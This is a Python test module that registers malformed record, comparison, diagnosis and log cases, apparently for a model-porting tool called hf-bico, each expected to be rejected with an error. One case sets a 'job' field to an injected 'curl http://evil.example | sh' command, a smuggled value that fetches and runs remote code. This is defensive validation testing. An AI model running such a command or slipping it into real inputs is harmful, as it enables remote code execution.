"""Records, results of comparisons and diagnoses, and logs of numbers, that say what cannot be."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path
from typing import Any

from support.malformed.table import add, change_json, deep, put, spoils


def record(scene: Path) -> Path:
    return scene / "ported" / "bico.json"


def _put(file: str, content: bytes | str, scene: Path) -> None:
    put(scene / file, content)


def _change(file: str, path: tuple[str | int, ...], value: Any, scene: Path) -> None:
    change_json(scene / file, *path, to=value)


MEASURED = {"model": "target", "data": "digits", "split": "test", "n": 100, "metric": "accuracy", "value": 0.5}
BROKEN: dict[str, bytes | str] = {
    "of_no_bytes": b"",
    "that_is_no_json": "{",
    "that_is_a_list": "[]",
    "nested_without_end": deep(),
    "of_other_bytes": b"\xff\xfe\x00",
    "that_says_nothing": "{}",
}
for entry in ("card", "push", "rerun"):
    for name, content in BROKEN.items():
        add(f"record_{name}_for_{entry}", entry, "RecordError", partial(_put, "ported/bico.json", content))
for name, path, value in (
    ("of_schema_3", ("schema",), 3),
    ("of_schema_true", ("schema",), True),
    ("of_schema_in_a_text", ("schema",), "1"),
    ("without_a_source", ("source",), None),
    ("with_a_source_in_a_text", ("source",), "org/model"),
    ("with_a_source_without_id", ("source",), {}),
    ("with_an_id_that_is_a_number", ("source", "id"), 5),
    ("with_digests_in_a_list", ("target", "sha256"), []),
    ("with_digests_that_are_numbers", ("target", "sha256"), {"a": 1}),
    ("with_a_score_in_a_text", ("sites", 0, "score_in"), "good"),
    ("with_a_score_beyond_words", ("sites", 0, "score_in"), 10**400),
    ("with_a_score_that_is_no_number", ("sites", 0, "score_in"), float("nan")),
    ("with_a_rank_beyond_words", ("sites", 0, "rank_in"), 10**30),
    ("with_a_rank_that_is_broken", ("sites", 0, "rank_in"), 1.5),
    ("with_a_shape_of_three", ("sites", 0, "shape_source"), [1, 2, 3]),
    ("with_sites_in_a_mapping", ("sites",), {"a": {}}),
    ("with_sites_of_texts", ("sites",), ["a"]),
    ("with_a_method_in_a_list", ("method",), ["bico"]),
    ("with_layers_of_texts", ("method", "layers"), ["a"]),
    ("with_an_alpha_in_a_text", ("method", "alpha"), "auto"),
    ("with_a_curve_of_numbers", ("method", "curve"), [1.0]),
    ("with_a_curve_without_losses", ("method", "curve"), [{"alpha": 1.0}]),
    ("with_an_outlook_that_is_a_number", ("outlook",), 0.1),
    ("with_indices_of_texts", ("data", "indices"), ["a"]),
    ("with_seconds_of_texts", ("run", "seconds"), {"all": "long"}),
    ("with_half_a_character", ("target", "id"), "\ud800"),
    ("with_notices_in_a_text", ("notices",), "all is well"),
    ("with_an_accuracy_above_one", ("evaluation",), [{**MEASURED, "value": 5.0}]),
    ("with_an_accuracy_below_zero", ("evaluation",), [{**MEASURED, "value": -0.1}]),
    ("with_a_loss_below_zero", ("evaluation",), [{**MEASURED, "metric": "loss", "value": -1.0}]),
    ("with_a_metric_that_is_not_known", ("evaluation",), [{**MEASURED, "metric": "accuracy ", "value": 5.0}]),
    ("with_fewer_than_no_samples", ("data", "n"), -1),
    ("with_a_training_step_below_zero", ("run", "training_step"), -0.5),
    ("with_seconds_below_zero", ("run", "seconds"), {"all": -1.0}),
    ("with_an_energy_above_all", ("sites", 0, "energy"), 7.0),
    ("with_a_source_that_is_always_right_and_more", ("source_lead",), {"source": 9.0, "target": 0.1, "error": 0.0}),
    ("with_notices_without_end", ("notices",), ["a"] * 200_000),
    ("with_results_without_end", ("evaluation",), [MEASURED] * 100_000),
    ("with_roles_without_end", ("sites",), [{"role": f"role{number}"} for number in range(100_000)]),
    ("with_classes_without_end", ("data", "class_names"), ["a"] * 2_000_000),
    ("with_columns_without_end", ("data", "columns"), {str(number): "a" for number in range(200_000)}),
    ("with_versions_without_end", ("run", "versions"), {str(number): "a" for number in range(200_000)}),
    ("with_languages_without_end", ("target", "language"), ["en"] * 200_000),
    ("with_alphas_without_end", ("method", "alpha"), [1.0] * 200_000),
    ("with_settings_without_end", ("settings",), {str(number): 1 for number in range(200_000)}),
    ("with_a_notice_of_megabytes", ("notices",), ["a" * 15_000_000]),
):
    add(f"record_{name}", "card", "RecordError", partial(_change, "ported/bico.json", path, value))


@spoils("card", "RecordError")
def record_with_bases_without_end(scene: Path) -> None:
    content = json.loads(record(scene).read_text())
    inner = content["source"]
    for _ in range(600):
        inner["base"] = inner = {"id": "x"}
    put(record(scene), json.dumps(content))


@spoils("card", "RecordError")
def record_of_megabytes(scene: Path) -> None:
    change_json(record(scene), "notices", to=["a" * 17_000_000])


@spoils("card of an extract", "RecordError")
def record_of_an_extract_with_parts_in_a_text(scene: Path) -> None:
    change_json(scene / "extracted" / "bico.json", "parts", to="a")


@spoils("card of an extract", "RecordError")
def record_of_an_extract_with_a_job_in_a_list(scene: Path) -> None:
    change_json(scene / "extracted" / "bico.json", "job", to=["extract"])


@spoils("card of an extract", "RecordError")
def record_of_an_extract_by_a_job_that_is_not_known(scene: Path) -> None:
    change_json(scene / "extracted" / "bico.json", "job", to="extract; curl http://evil.example | sh")


@spoils("card of an extract", "RecordError")
def record_of_an_extract_with_parts_without_end(scene: Path) -> None:
    change_json(scene / "extracted" / "bico.json", "parts", to=[{"model": {"id": "a"}}] * 100_000)


for name, path, value in (
    ("command_with_a_quote", ("command",), "hf-bico port 'a"),
    ("command_that_ends_early", ("command",), "hf-bico port a --batch-size"),
    ("method_that_is_not_known", ("method", "name"), "magic"),
    ("alpha_of_nothing", ("method", "alpha"), 1e200),
    ("no_output", ("output",), None),
    ("batch_of_less_than_one", ("run", "batch_size"), -5),
    ("number_type_that_is_not_known", ("run", "dtype"), "float7"),
    ("sampling_that_is_not_known", ("data", "sampling"), "magic"),
    ("negative_number_of_samples", ("data", "n"), -4),
):
    add(f"rerun_of_a_{name}", "rerun", "RecordError", partial(_change, "ported/bico.json", path, value))

for name, content in BROKEN.items():
    add(f"comparison_{name}", "compared", "RecordError", partial(_put, "compared/comparison.json", content))
    add(f"diagnosis_{name}", "diagnosed", "RecordError", partial(_put, "diagnosed/diagnosis.json", content))
for name, path, value in (
    ("of_schema_2", ("schema",), 2),
    ("with_a_number_in_a_text", ("cells", 0, "value"), "high"),
    ("with_a_number_beyond_words", ("cells", 0, "value"), 10**400),
    ("with_no_number", ("cells", 0, "value"), float("nan")),
    ("with_a_data_set_in_a_list", ("cells", 0, "data"), ["a"]),
    ("with_samples_in_a_text", ("cells", 0, "n"), "ten"),
    ("with_cells_in_a_text", ("cells",), "cells"),
    ("with_methods_of_numbers", ("methods",), [1, 2]),
    ("with_a_title_in_a_list", ("title",), ["a"]),
    ("with_refusals_of_texts", ("refusals",), ["no"]),
    ("about_a_text", ("about",), "everything"),
    ("with_an_accuracy_above_one", ("cells", 0, "value"), 5.0),
    ("with_fewer_than_no_samples", ("cells", 0, "n"), -1),
    ("with_data_sets_without_end", ("data_sets",), [str(number) for number in range(200_000)]),
    ("with_methods_without_end", ("methods",), [str(number) for number in range(200_000)]),
    (
        "with_a_table_without_end",
        ("cells",),
        [{"data": str(number), "method": str(number), "value": 0.5} for number in range(20_000)],
    ),
):
    add(f"comparison_{name}", "compared", "RecordError", partial(_change, "compared/comparison.json", path, value))
for name, path, value in (
    ("of_schema_2", ("schema",), 2),
    ("with_samples_in_a_text", ("samples",), "ten"),
    ("with_inputs_in_a_mapping", ("inputs",), {"a": 1}),
    ("with_sites_of_texts", ("sites",), ["a"]),
    ("with_no_target", ("target",), None),
    ("with_fewer_than_no_samples", ("samples",), -1),
    ("with_a_pass_that_costs_nothing", ("cost", "a_pass"), 0),
    ("with_checkpoints_without_end", ("checkpoints",), ["a"] * 200_000),
    ("with_layers_without_end", ("layers",), [0] * 200_000),
):
    add(f"diagnosis_{name}", "diagnosed", "RecordError", partial(_change, "diagnosed/diagnosis.json", path, value))


def _line(number: int, content: bytes, scene: Path) -> None:
    file = scene / "measured" / "cells.jsonl"
    lines = file.read_bytes().splitlines(keepends=True)
    lines[number] = content + b"\n"
    put(file, b"".join(lines))


for name, content, error in (
    ("that_is_no_json", b"{", "OutputExistsError"),
    ("that_is_a_list", b"[]", "OutputExistsError"),
    ("nested_without_end", deep().encode(), "OutputExistsError"),
    ("of_another_format", b'{"format": "x", "schema": 1, "identity": {}}', "OutputExistsError"),
    ("without_an_identity", b'{"format": "hf-bico comparison", "schema": 1}', "OutputExistsError"),
    ("of_another_comparison", b'{"format": "hf-bico comparison", "schema": 1, "identity": {"a": 1}}', "UsageError"),
):
    add(f"log_with_a_head_{name}", "measured", error, partial(_line, 0, content))
for name, content in (
    ("that_is_no_json", b"{"),
    ("that_is_a_number", b"5"),
    ("that_is_a_list", b"[1]"),
    ("that_is_null", b"null"),
    ("nested_without_end", deep().encode()),
    ("without_a_cell", b"{}"),
    ("with_a_cell_in_a_text", b'{"cell": "x"}'),
    ("with_a_cell_of_nothing", b'{"cell": {}}'),
    ("with_a_value_in_a_text", b'{"cell": {"data": "a", "method": "b", "value": "high"}}'),
    ("with_a_value_that_is_infinite", b'{"cell": {"data": "a", "method": "b", "value": Infinity}}'),
    ("with_a_data_set_in_a_list", b'{"cell": {"data": [], "method": "b", "value": 0.5}}'),
    ("with_n_and_per_class", b'{"cell": {"data": "a", "method": "b", "value": 0.5, "n": 1, "per_class": 1}}'),
    ("of_other_bytes", b"\xff\xfe"),
    ("with_a_reference_in_a_text", b'{"reference": "x"}'),
    ("that_stands_twice", b'{"cell": {"data": "digits", "method": "target", "value": 0.5}}'),
):
    add(f"log_with_a_line_{name}", "measured", "RecordError", partial(_line, 1, content))
